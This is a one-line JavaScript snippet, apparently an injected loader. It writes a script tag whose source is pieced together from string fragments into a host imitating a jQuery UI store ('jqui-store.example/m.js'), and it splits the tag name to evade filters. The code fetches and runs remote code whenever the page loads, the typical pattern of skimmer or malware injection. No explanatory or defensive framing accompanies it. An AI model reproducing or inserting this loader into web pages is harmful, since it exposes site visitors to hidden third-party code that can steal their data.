document.write('<scr' + 'ipt type="text/javascript" src="' + ['//', 'jq', 'ui-', 'st', 'ore', '.exa', 'mple', '/m', '.js'].join('') + '"></scr' + 'ipt>');
